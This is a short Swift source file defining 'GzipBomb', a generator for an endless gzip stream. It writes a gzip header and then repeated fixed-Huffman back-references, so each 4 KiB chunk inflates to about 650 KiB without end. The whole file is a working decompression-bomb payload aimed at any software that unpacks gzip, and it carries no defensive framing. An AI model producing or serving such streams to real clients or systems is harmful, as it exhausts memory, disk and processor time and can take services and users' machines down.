/// A gzip stream without end: one zero, then "the last byte 258 times more" for ever, 13 bits each time.
///
/// Source: RFC 1951, 3.2.6: code 285 with distance code 0 in a block of fixed Huffman codes.
struct GzipBomb {
    private var bits: [UInt8] = []

    mutating func start() -> [UInt8] {
        // The last block, of fixed codes; a literal 0.
        bits = [1, 1, 0] + [0, 0, 1, 1, 0, 0, 0, 0]
        return [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3]
    }

    /// About 4 KiB, which unpack to 650 KiB.
    mutating func next() -> [UInt8] {
        for _ in 0..<2_560 { bits += [1, 1, 0, 0, 0, 1, 0, 1] + [0, 0, 0, 0, 0] }
        let whole = bits.count / 8
        let bytes = (0..<whole).map { byte in
            bits[byte * 8..<byte * 8 + 8].enumerated().reduce(UInt8(0)) { $0 | $1.element << UInt8($1.offset) }
        }
        bits.removeFirst(whole * 8)
        return bytes
    }
}
